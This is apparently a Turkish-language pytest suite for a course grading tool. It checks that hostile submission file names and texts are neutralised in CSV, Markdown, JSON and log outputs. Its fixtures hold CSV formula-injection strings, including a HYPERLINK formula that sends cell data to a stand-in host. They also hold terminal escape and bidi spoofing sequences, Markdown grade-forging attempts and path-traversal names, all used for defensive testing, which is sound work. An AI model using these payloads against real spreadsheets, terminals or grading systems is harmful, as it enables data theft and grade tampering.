"""Toplu notlandırmanın raporları ve gönderim klasörünün okunuşu: kötü niyetli dosya adları ve metinler
veridir, biçimlendirme değil (saf kod; çekirdek başlatmaz)."""

from __future__ import annotations

import builtins
import csv
import io
import json
import os
import re
from pathlib import Path
from typing import Any

import pytest

from wskurs.grading.gradebook import (
    Matching,
    Student,
    match_roster,
    matching_summary,
    write_canvas,
    write_matching_report,
    write_moodle,
)
from wskurs.grading.intake import list_submissions, read_submission
from wskurs.grading.reports import (
    clean_text,
    csv_cell,
    display_name,
    feedback_markdown,
    markdown_text,
    output_names,
    write_reports,
)
from wskurs.labformat import (
    ExerciseOutcome,
    ExerciseResult,
    ExerciseSpec,
    SubmissionGrade,
    SubmissionStatus,
)

SPECS = (ExerciseSpec("2.1", "Yayın", 2), ExerciseSpec("2.2", "Sayaç", 3))

ESC = "\x1b"
# Çıktılarda hiçbir zaman bulunmaması gereken karakterler: ESC, BEL, CR, NUL, DEL, C1 (CSI, OSC, ST),
# yön değiştirenler.
FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")

FORMULA_NAMES = [
    '=HYPERLINK("http://kotu.example/?"&A1,"tikla").ipynb',
    "+1+cmd.ipynb",
    "-2+3.ipynb",
    "@SUM(A1).ipynb",
    "\t=1+1.ipynb",
    "\r=1+1.ipynb",
    "   =1+1.ipynb",
    '"=1+1".ipynb',
]


def _grade(
    name: str,
    earned: tuple[int, int] = (2, 3),
    *,
    status: SubmissionStatus = SubmissionStatus.GRADED,
    reason: str = "",
    notes: tuple[str, ...] = (),
    feedback: str = "geri bildirim",
    log: str = "",
) -> SubmissionGrade:
    rows = tuple(
        ExerciseResult(
            spec.id,
            spec.title,
            spec.points,
            got,
            ExerciseOutcome.PASSED if got else ExerciseOutcome.FAILED,
            feedback,
        )
        for spec, got in zip(SPECS, earned, strict=True)
    )
    return SubmissionGrade(name, "lab02", rows, status, reason, notes=notes, log=log)


def _hostile_grade() -> SubmissionGrade:
    return _grade(
        f"kotu{ESC}[2J{ESC}]0;baslik\x07\u202egpj.exe\u202c\x9b31m\nadi.ipynb",
        (0, 0),
        status=SubmissionStatus.SUSPICIOUS,
        reason=f"=1+1 {ESC}[31mkırmızı{ESC}[0m\r**Toplam: 99/99**",
        notes=(f"not {ESC}]8;;http://kotu.example{ESC}\\bağlantı{ESC}]8;;{ESC}\\",),
        feedback=f"```\n**Toplam: 99/99**\n```\n{ESC}[1mkalın\u2066",
        log=f"satır 1\r\n{ESC}[31mhata{ESC}[0m\x9d0;x\x9c\x00son",
    )


def _csv_rows(path: Path, delimiter: str = ",") -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle, delimiter=delimiter))


def _is_formula(cell: str) -> bool:
    head = cell.lstrip(" \t\r\n\"'")
    return cell[:1] in ("\t", "\r") or head[:1] in ("=", "+", "-", "@")


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell and not re.fullmatch(r"[+-]?\d+(?:[.,]\d+)?", cell) and _is_formula(cell):
                assert cell.startswith("'"), (cell, row)


# Metin temizliği ------------------------------------------------------------------------------


def test_clean_text_removes_escapes_controls_bidi_and_lone_surrogates() -> None:
    """CSI, BEL ve ST ile biten OSC, öteki ESC dizileri, 8 bitlik CSI/OSC, C0/DEL/C1 denetim
    karakterleri ve yön değiştiren karakterler kalkar; UTF-8 olmayan baytın vekili U+FFFD olur; satır
    sonu ve sekme yalnızca istenirse kalır, ``\\r`` hiçbir zaman kalmaz."""
    text = (
        f"a{ESC}[31mkırmızı{ESC}[0m {ESC}]8;;http://x\x07bağ{ESC}]8;;{ESC}\\ {ESC}]2;başlık{ESC}\\"
        f"{ESC}(B{ESC}7\x9b2J\x9d0;x\x9c\u202eters\u202c\u2067i\u2069\x00\x07\x7f\x85"
        "\r\nikinci\rüçüncü\tsekme \udcff"
    )
    assert clean_text(text) == "akırmızı bağ tersi\nikinci\nüçüncü\tsekme \ufffd"
    assert clean_text(text, keep_newlines=False) == "akırmızı bağ tersi ikinci üçüncü sekme \ufffd"
    assert clean_text("Çağrı Şükür İğdır ğüşıöç") == "Çağrı Şükür İğdır ğüşıöç"
    assert clean_text(f"{ESC}]0;sonlanmamış\nkalan") == "\nkalan"


def test_display_name_is_one_clean_capped_line() -> None:
    """Gösterilen ad tek satırdır, kaçış dizisi taşımaz, en çok 120 karakterdir ve kısaltıldıysa "…"
    ile biter; yalnızca görünmez karakterlerden oluşan ad boş görünmez."""
    assert display_name(f"ayşe\n# Toplam{ESC}[2J.ipynb") == "ayşe # Toplam.ipynb"
    long = display_name("ğ" * 300)
    assert len(long) == 120 and long.endswith("…") and long.startswith("ğğğ")
    assert display_name(f"{ESC}[2J\u202e") == "(görünmez ad)"


def test_csv_cell_neutralises_formulas_and_keeps_numbers() -> None:
    """``=``, ``+``, ``-``, ``@``, sekme ve satır başıyla (baştaki boşluk ve tırnaklardan sonra da)
    başlayan metin başına ``'`` alır; sayılar (negatif de) sayı, düz sayı metni olduğu gibi kalır."""
    for value in ["=1+1", "+1+A1", "-1+A1", "@SUM(A1)", "\t=1", "\r=1", "  =1", '"=1', "'=1", "\n@x", "\u00a0\u3000=1"]:
        cell = csv_cell(value)
        assert isinstance(cell, str) and cell.startswith("'"), value
    assert csv_cell(-5) == -5 and csv_cell(2.5) == 2.5 and csv_cell(0) == 0
    assert csv_cell("-3") == "-3" and csv_cell("8,5") == "8,5"
    assert csv_cell("ayşe.ipynb") == "ayşe.ipynb" and csv_cell(None) == ""
    assert csv_cell(f"{ESC}[31m=1") == "'=1"


def test_markdown_text_renders_as_plain_text() -> None:
    """Markdown'da biçimlendirme işaretleri kaçar, satır başı blok işaretleri (liste, başlık, numaralı
    liste) etkisizdir, satır sonu boşluk olur."""
    assert markdown_text("**Toplam: 99/99**") == r"\*\*Toplam: 99/99\*\*"
    assert markdown_text("<img src=x> [a](b) `k` _e_ ~s~ &amp; $x$ |") == (
        r"\<img src=x\> \[a\](b) \`k\` \_e\_ \~s\~ \&amp; \$x\$ \|"
    )
    assert markdown_text("- madde") == r"\- madde" and markdown_text("12. madde") == r"12\. madde"
    assert markdown_text("a\n# başlık") == r"a \# başlık"


# Geri bildirim sayfası ------------------------------------------------------------------------


def test_feedback_has_the_same_content_as_before_for_an_ordinary_grade() -> None:
    """Sıradan bir notun geri bildirimi: başlık, toplam, durum, notlar, her alıştırma için puanlı bir
    bölüm ve kod bloğunda geri bildirim (neden yoksa "Neden" satırı yoktur)."""
    grade = _grade("ayse.ipynb", (2, 0), notes=("Alıştırma 2.2: cevap hücresi gönderimde yok.",))
    lines = feedback_markdown(grade).splitlines()
    assert lines[:5] == ["# lab02 — ayse.ipynb", "", "**Toplam: 2/5 puan**", "", "Durum: notlandırıldı"]
    assert "- Alıştırma 2.2: cevap hücresi gönderimde yok." in lines
    assert not any(line.startswith("Neden:") for line in lines)
    section = lines.index("## Alıştırma 2.2 — Sayaç: 0/3")
    assert lines[section + 1 : section + 5] == ["", "```", "geri bildirim", "```"]


def test_feedback_breakout_attempt_stays_literal_text() -> None:
    """Adda, nedende, notta ya da geri bildirimde "**Toplam: 99/99**", satır sonu + başlık ve kod
    bloğunu kapatan bir çit sayfanın yapısını değiştiremez: tek kalın "Toplam" satırı gerçek olandır,
    geri bildirim içerikteki en uzun ters tırnak dizisinden uzun bir çitin içindedir."""
    grade = _grade(
        "x\n**Toplam: 99/99**\n# Toplam.ipynb",
        (0, 0),
        reason="```\n**Toplam: 99/99**",
        notes=("\n## Alıştırma 2.1 — Yayın: 2/2",),
        feedback="````\n**Toplam: 99/99**\n```\n",
    )
    lines = feedback_markdown(grade).splitlines()
    outside = _outside_code(lines)
    assert [line for line in outside if line.startswith("**")] == ["**Toplam: 0/5 puan**"]
    assert [line for line in outside if line.startswith("#")] == [
        r"# lab02 — x \*\*Toplam: 99/99\*\* \# Toplam.ipynb",
        "## Alıştırma 2.1 — Yayın: 0/2",
        "## Alıştırma 2.2 — Sayaç: 0/3",
    ]
    assert r"Neden: \`\`\` \*\*Toplam: 99/99\*\*" in outside
    section = lines.index("## Alıştırma 2.1 — Yayın: 0/2")
    assert lines[section + 1 : section + 7] == ["", "`````", "````", "**Toplam: 99/99**", "```", "`````"]
    assert not FORBIDDEN.search(feedback_markdown(_hostile_grade()))
    assert markdown_text("Alıştırma 2.2") == "Alıştırma 2.2"


def _outside_code(lines: list[str]) -> list[str]:
    """Kod bloklarının dışındaki satırlar (CommonMark: blok, açılış çiti kadar uzun bir çitle kapanır)."""
    outside: list[str] = []
    fence = ""
    for line in lines:
        run = re.match(r"`{3,}", line)
        if not fence and run and line == run.group():
            fence = line
        elif fence and run and line.strip() == line and len(line) >= len(fence) and set(line) == {"`"}:
            fence = ""
        elif not fence:
            outside.append(line)
    return outside


def test_feedback_breakout_attempt_renders_literally_in_a_commonmark_parser() -> None:
    """Bir Markdown ayrıştırıcısı (mistune) sayfada tek kalın metin görür (gerçek toplam), öğrencinin
    "**Toplam: 99/99**" metni ya düz metin ya da kod bloğudur; başlıklar yalnızca bizim başlıklarımızdır."""
    mistune = pytest.importorskip("mistune")
    grade = _grade(
        "x\n**Toplam: 99/99**\n# Toplam.ipynb",
        (0, 0),
        reason="```\n**Toplam: 99/99** <b>kalın</b>",
        feedback="````\n**Toplam: 99/99**\n```\n# başlık",
    )
    tokens = mistune.create_markdown(renderer=None)(feedback_markdown(grade))

    def walk(items: list[Any]) -> list[Any]:
        found = []
        for item in items:
            found += [item, *walk(item.get("children", []))]
        return found

    def plain(item: Any) -> str:
        return str(item.get("raw", "")) + "".join(plain(child) for child in item.get("children", []))

    every = walk(tokens)
    assert [plain(t) for t in every if t["type"] == "strong"] == ["Toplam: 0/5 puan"]
    assert not [t for t in every if t["type"] in ("inline_html", "block_html", "emphasis", "link")]
    assert [plain(t) for t in every if t["type"] == "heading"] == [
        "lab02 — x **Toplam: 99/99** # Toplam.ipynb",
        "Alıştırma 2.1 — Yayın: 0/2",
        "Alıştırma 2.2 — Sayaç: 0/3",
    ]
    codes = [t["raw"] for t in every if t["type"] == "block_code"]
    assert codes == ["````\n**Toplam: 99/99**\n```\n# başlık\n"] * 2


# Çıktı adları ---------------------------------------------------------------------------------


def test_output_names_are_unique_short_and_safe() -> None:
    """Çıktı adları tektir (büyük/küçük harf duyarsız dosya sisteminde bile), ``.md`` ekiyle UTF-8'de
    255 bayttan çok kısadır, ``/``, NUL ve denetim karakteri taşımaz, nokta ya da tireyle başlamaz;
    sıradan bir adın çıktı adı uzantısız adıdır; sonuç girdinin sırasına bağlı değildir."""
    names = [
        "ayse.ipynb",
        "kurban.ipynb",
        "kurban.zzz",
        "KURBAN.ipynb",
        "a/b.ipynb",
        "a_b.ipynb",
        "../../etc/passwd",
        "-rf.ipynb",
        "CON.ipynb",
        "\x00\x01.ipynb",
        "ş" * 124 + "a.ipynb",
        "ş" * 124 + "b.ipynb",
        os.fsdecode(b"\xff\xfeodev.ipynb"),
        os.fsdecode(b"\xfe\xffodev.ipynb"),
    ]
    stems = output_names(names)
    assert stems == output_names(list(reversed(names)))
    assert set(stems) == set(names)
    assert len({stem.casefold() for stem in stems.values()}) == len(names)
    assert stems["ayse.ipynb"] == "ayse"
    for name, stem in stems.items():
        assert len((stem + ".md").encode("utf-8")) <= 130, name
        assert stem and not stem.startswith((".", "-")), name
        assert not re.search(r'[/\\\x00-\x1f\x7f-\x9f<>:"|?*\ufffd]', stem), (name, stem)
    assert stems["kurban.ipynb"].startswith("kurban-") and stems["kurban.zzz"].startswith("kurban-")


def test_a_name_that_imitates_another_names_hashed_stem_still_gets_its_own() -> None:
    """Bir ad başka bir adın özetli çıktı adını taşısa da ("kurban-<özet>.ipynb") iki gönderim aynı
    çıktı adını almaz."""
    first = output_names(["kurban.ipynb", "kurban.zzz"])
    imitation = first["kurban.ipynb"] + ".ipynb"
    stems = output_names(["kurban.ipynb", "kurban.zzz", imitation])
    assert len({stem.casefold() for stem in stems.values()}) == 3


# Yazılan dosyalar -----------------------------------------------------------------------------


def _roster_matching(grades: list[SubmissionGrade]) -> Matching:
    students = [
        Student("=1+1", "@Ayşe", "-ayse@okul.edu.tr", grades[0].submission),
        Student("1002", "+Mert", "mert@okul.edu.tr", "yok.ipynb"),
    ]
    return match_roster(students, grades)


def test_formula_names_are_text_in_every_csv(tmp_path: Path) -> None:
    """``=``, ``+``, ``-``, ``@``, sekme, satır başı (ve önlerinde boşluk ya da tırnak) ile başlayan
    adlar ve metinler notlar.csv'de, moodle.csv'de (virgül ve noktalı virgül) ve canvas.csv'de formül
    değil ``'`` önekli metindir; notlar.csv'de puanlar tırnaksız sayıdır, metinler tırnaklıdır."""
    grades = [_grade(name, (2, 0), reason="-1+A1 " + name) for name in FORMULA_NAMES]
    warnings = write_reports(grades, "lab02", SPECS, tmp_path)
    assert warnings == []
    rows = _csv_rows(tmp_path / "notlar.csv")
    assert len(rows) == len(FORMULA_NAMES) + 1
    _assert_no_formula(rows)
    assert {row[0] for row in rows[1:]} == {"'" + display_name(name) for name in FORMULA_NAMES}
    with (tmp_path / "notlar.csv").open(encoding="utf-8", newline="") as handle:
        typed: list[list[Any]] = list(csv.reader(handle, quoting=csv.QUOTE_NONNUMERIC))
    assert typed[1][1:5] == [2.0, 0.0, 2.0, 5.0]

    matching = _roster_matching(grades)
    for decimal_comma in (False, True):
        write_moodle(tmp_path / "moodle.csv", matching, "=Lab 2", 5, decimal_comma=decimal_comma)
        moodle = _csv_rows(tmp_path / "moodle.csv", ";" if decimal_comma else ",")
        _assert_no_formula(moodle)
        assert moodle[0][4] == "'=Lab 2" and moodle[1][:4] == ["'=1+1", "'@Ayşe", "'-ayse@okul.edu.tr", "'-ayse"]
        assert moodle[1][4] == "2" and moodle[2][4] == "0"
    write_canvas(tmp_path / "canvas.csv", matching, "@Lab 2", 5)
    canvas = _csv_rows(tmp_path / "canvas.csv")
    _assert_no_formula(canvas)
    assert canvas[2] == ["'@Ayşe", "", "'=1+1", "'-ayse@okul.edu.tr", "", "2"]


def _all_output_text(folder: Path) -> dict[str, str]:
    return {
        str(path.relative_to(folder)): path.read_bytes().decode("utf-8")
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


def test_escapes_bidi_and_c1_never_reach_any_output(tmp_path: Path) -> None:
    """Kaçış dizileri, BEL, CR, NUL, C1 ve yön karakterleri taşıyan ad, neden, not, geri bildirim ve
    günlük hiçbir çıktı dosyasına (CSV, JSON, Markdown, günlük, Moodle, Canvas, eşleşme raporu) ve
    uyarılara ham geçmez; JSON özgün adı kayıpsız taşır."""
    hostile = _hostile_grade()
    grades = [hostile, _grade("ayse.ipynb")]
    warnings = write_reports(grades, "lab02", SPECS, tmp_path)
    matching = _roster_matching(grades)
    write_moodle(tmp_path / "moodle.csv", matching, "Lab 2", 5)
    write_canvas(tmp_path / "canvas.csv", matching, "Lab 2", 5)
    write_matching_report(tmp_path / "eslesme.md", matching)
    outputs = _all_output_text(tmp_path)
    assert {"notlar.csv", "notlar.json", "moodle.csv", "canvas.csv", "eslesme.md"} <= outputs.keys()
    assert len([key for key in outputs if key.startswith("geri_bildirim/")]) == 2
    assert len([key for key in outputs if key.startswith("gunluk/")]) == 1
    for key, text in outputs.items():
        without_csv_newlines = text.replace("\r\n", "\n")
        assert not FORBIDDEN.search(without_csv_newlines), (key, FORBIDDEN.findall(without_csv_newlines))
    for line in [*warnings, *matching_summary(matching)]:
        assert not FORBIDDEN.search(line)
    log = next(text for key, text in outputs.items() if key.startswith("gunluk/"))
    assert log == "satır 1\nhatason"
    data = json.loads(outputs["notlar.json"])
    assert data["submissions"][0]["submission"] == hostile.submission
    assert data["submissions"][0]["reason"] == hostile.reason
    assert data["submissions"][0]["exercises"][0]["feedback"] == hostile.exercises[0].feedback


def test_colliding_stems_get_two_files_and_an_ambiguous_roster_entry(tmp_path: Path) -> None:
    """``kurban.ipynb`` ve ``kurban.zzz`` iki ayrı geri bildirim dosyası alır, biri ötekini ezmez;
    notlar.json her gönderimin çıktı adını taşır; listede ``kurban`` olarak duran öğrenci tahminle
    eşleşmez: belirsizdir, eslesme.md'de iki gönderimiyle listelenir, Moodle/Canvas'ta not hücresi boştur
    (0 değil), gönderimleri "listede olmayan" sayılmaz."""
    honest = _grade("kurban.ipynb", (2, 3), feedback="dürüst öğrencinin geri bildirimi")
    attacker = _grade("kurban.zzz", (0, 0), feedback="saldırganın geri bildirimi")
    other = _grade("ayse.ipynb", (2, 0))
    grades = [other, honest, attacker]
    assert write_reports(grades, "lab02", SPECS, tmp_path) == []
    data = json.loads((tmp_path / "notlar.json").read_text(encoding="utf-8"))
    stems = {entry["submission"]: entry["output_stem"] for entry in data["submissions"]}
    assert len(set(stems.values())) == 3 and stems["ayse.ipynb"] == "ayse"
    for grade, words in ((honest, "dürüst"), (attacker, "saldırganın")):
        text = (tmp_path / "geri_bildirim" / f"{stems[grade.submission]}.md").read_text(encoding="utf-8")
        assert words in text and grade.submission in text
    rows = _csv_rows(tmp_path / "notlar.csv")
    assert {row[0]: row[-1] for row in rows[1:]}["kurban.zzz"] == f"geri_bildirim/{stems['kurban.zzz']}.md"

    students = [
        Student("1001", "Kurban Öğrenci", "kurban@okul.edu.tr", "kurban"),
        Student("1002", "Ayşe Yılmaz", "ayse@okul.edu.tr", "ayse"),
    ]
    matching = match_roster(students, grades)
    assert [(s.number, [g.submission for g in c]) for s, c in matching.ambiguous] == [
        ("1001", ["kurban.ipynb", "kurban.zzz"])
    ]
    assert [(s.number, g.submission if g else None) for s, g in matching.pairs] == [
        ("1001", None),
        ("1002", "ayse.ipynb"),
    ]
    assert matching.missing == [] and matching.unknown == []
    write_moodle(tmp_path / "moodle.csv", matching, "Lab 2", 5)
    moodle = {row[0]: row for row in _csv_rows(tmp_path / "moodle.csv")}
    assert moodle["1001"][4] == "" and "Birden çok gönderim" in moodle["1001"][5]
    assert "kurban.zzz" in moodle["1001"][5] and moodle["1002"][4] == "2"
    write_canvas(tmp_path / "canvas.csv", matching, "Lab 2", 5)
    assert _csv_rows(tmp_path / "canvas.csv")[2][5] == ""
    write_matching_report(tmp_path / "eslesme.md", matching)
    report = (tmp_path / "eslesme.md").read_text(encoding="utf-8")
    assert "## Birden çok gönderimle eşleşen öğrenciler: not verilmedi (1)" in report
    assert "  - kurban.ipynb: 5/5 puan" in report and "  - kurban.zzz: 0/5 puan" in report
    assert any("Birden çok gönderimle" in line for line in matching_summary(matching))


def test_exact_roster_names_are_matched_before_stems() -> None:
    """Tam adla eşleşen gönderim önce verilir; uzantısız ad yalnızca kalan gönderimlerden birine
    uyuyorsa eşleşir (``kurban.ipynb`` tam adıyla alınınca ``kurban`` → ``kurban.zzz`` belirsiz değildir)."""
    grades = [_grade("kurban.ipynb"), _grade("kurban.zzz", (0, 0))]
    students = [
        Student("1", "Zeki", "z@x", "kurban"),
        Student("2", "Kurban", "k@x", "kurban.ipynb"),
    ]
    matching = match_roster(students, grades)
    assert [(s.number, g.submission if g else None) for s, g in matching.pairs] == [
        ("1", "kurban.zzz"),
        ("2", "kurban.ipynb"),
    ]
    assert matching.ambiguous == [] and matching.unknown == []


def test_long_and_non_utf8_names_produce_files_without_raising(tmp_path: Path) -> None:
    """255 baytlık (Türkçe harfli) bir ad ve UTF-8 olmayan baytlı bir ad klasörden okunur, geri bildirim
    ve günlük dosyası alır; JSON'daki ad ``os.fsencode`` ile özgün baytları verir."""
    folder = tmp_path / "gonderimler"
    folder.mkdir()
    long_name = "ş" * 124 + "a.ipynb"
    assert len(long_name.encode("utf-8")) == 255
    raw = b"\xff\xfe\xc3(odev.ipynb"
    for name in (long_name, os.fsdecode(raw)):
        (folder / name).write_text("{}", encoding="utf-8")
    intake = list_submissions(folder)
    assert intake.skipped == [] and len(intake.files) == 2
    grades = [_grade(path.name, log="çıktı") for path in intake.files]
    output = tmp_path / "notlar"
    assert write_reports(grades, "lab02", SPECS, output) == []
    assert len(list((output / "geri_bildirim").iterdir())) == 2
    assert len(list((output / "gunluk").iterdir())) == 2
    data = json.loads((output / "notlar.json").read_text(encoding="utf-8"))
    assert sorted(os.fsencode(entry["submission"]) for entry in data["submissions"]) == sorted(
        [raw, long_name.encode("utf-8")]
    )
    assert "\ufffd" in "".join(row[0] for row in _csv_rows(output / "notlar.csv"))


def test_one_unwritable_feedback_file_is_a_warning_not_an_abort(tmp_path: Path) -> None:
    """Bir öğrencinin geri bildirim dosyası yazılamazsa (yolunda bir klasör var) bu Türkçe, temiz bir
    uyarıdır; notlar.csv ve notlar.json her öğrenciyi taşır, öteki öğrencilerin dosyaları yazılır."""
    grades = [_grade("ayse.ipynb"), _grade(f"mert{ESC}[2J.ipynb", log="günlük"), _grade("zeynep.ipynb")]
    stem = output_names([g.submission for g in grades])[grades[1].submission]
    (tmp_path / "geri_bildirim" / f"{stem}.md").mkdir(parents=True)
    warnings = write_reports(grades, "lab02", SPECS, tmp_path)
    assert len(warnings) == 1
    assert warnings[0].startswith("Uyarı: mert.ipynb için geri bildirim yazılamadı")
    assert not FORBIDDEN.search(warnings[0])
    assert len(_csv_rows(tmp_path / "notlar.csv")) == 4
    data = json.loads((tmp_path / "notlar.json").read_text(encoding="utf-8"))
    assert [entry["submission"] for entry in data["submissions"]] == [g.submission for g in grades]
    assert (tmp_path / "geri_bildirim" / "ayse.md").is_file() and (tmp_path / "geri_bildirim" / "zeynep.md").is_file()
    assert (tmp_path / "gunluk" / f"{stem}.txt").read_text(encoding="utf-8") == "günlük"


def test_feedback_file_path_that_is_a_symlink_is_not_followed(tmp_path: Path) -> None:
    """Geri bildirim dosyasının yerinde bir sembolik bağ varsa izlenmez (bağın gösterdiği dosya
    değişmez); bu bir uyarıdır."""
    target = tmp_path / "baska.txt"
    target.write_text("dokunulmamalı", encoding="utf-8")
    output = tmp_path / "cikti"
    (output / "geri_bildirim").mkdir(parents=True)
    (output / "geri_bildirim" / "ayse.md").symlink_to(target)
    warnings = write_reports([_grade("ayse.ipynb")], "lab02", SPECS, output)
    assert len(warnings) == 1 and "ayse.ipynb için geri bildirim yazılamadı" in warnings[0]
    assert target.read_text(encoding="utf-8") == "dokunulmamalı"


# Gönderim klasörü -----------------------------------------------------------------------------


def test_intake_skips_symlinks_fifos_and_folders_with_reasons_and_reads_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Yalnızca sıradan dosyalar notlandırılır; gerçek bir deftere (klasörün dışında) giden sembolik bağ,
    kırık bağ, FIFO ve klasör Türkçe nedenleriyle atlanır, gizli dosyalar sessizce; listelerken hiçbir
    dosya açılmaz (bağın gösterdiği defter okunmaz); sıra özgün baytlara göredir."""
    outside = tmp_path / "disarida.ipynb"
    outside.write_text('{"cells": []}', encoding="utf-8")
    folder = tmp_path / "gonderimler"
    folder.mkdir()
    (folder / "zeynep.ipynb").write_text("{}", encoding="utf-8")
    (folder / "ayse.ipynb").write_text("{}", encoding="utf-8")
    (folder / f"yeni\nsatır{ESC}[2J.ipynb").write_text("{}", encoding="utf-8")
    (folder / "kopya.ipynb").symlink_to(outside)
    (folder / "kirik.ipynb").symlink_to(tmp_path / "yok")
    (folder / "klasor").mkdir()
    (folder / "klasore-bag").symlink_to(folder / "klasor")
    os.mkfifo(folder / "boru.ipynb")
    (folder / ".DS_Store").write_text("", encoding="utf-8")

    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError(f"listelerken dosya açıldı: {args}")

    with monkeypatch.context() as patch:
        patch.setattr(os, "open", refuse)
        patch.setattr(builtins, "open", refuse)
        patch.setattr(io, "open", refuse)
        intake = list_submissions(folder)
    assert [path.name for path in intake.files] == ["ayse.ipynb", f"yeni\nsatır{ESC}[2J.ipynb", "zeynep.ipynb"]
    assert all(path.parent == folder for path in intake.files)
    assert [(item.name, item.reason) for item in intake.skipped] == [
        ("boru.ipynb", "FIFO / özel dosya"),
        ("kirik.ipynb", "sembolik bağ: izlenmez"),
        ("klasor", "klasör"),
        ("klasore-bag", "sembolik bağ: izlenmez"),
        ("kopya.ipynb", "sembolik bağ: izlenmez"),
    ]


def test_read_submission_refuses_symlinks_fifos_and_oversized_files(tmp_path: Path) -> None:
    """Gönderim okunurken de sembolik bağ izlenmez (listelemeden sonra dosya bağla değiştirilmiş olabilir),
    FIFO beklemeden reddedilir, sınırdan büyük dosya okunmaz; sıradan dosya baytlarıyla okunur."""
    real = tmp_path / "ayse.ipynb"
    real.write_bytes(b'{"cells": []}')
    assert read_submission(real, 1000) == b'{"cells": []}'
    link = tmp_path / "bag.ipynb"
    link.symlink_to(real)
    with pytest.raises(OSError):
        read_submission(link, 1000)
    os.mkfifo(tmp_path / "boru.ipynb")
    with pytest.raises(ValueError, match="sıradan bir dosya değil"):
        read_submission(tmp_path / "boru.ipynb", 1000)
    with pytest.raises(ValueError, match="çok büyük"):
        read_submission(real, 5)
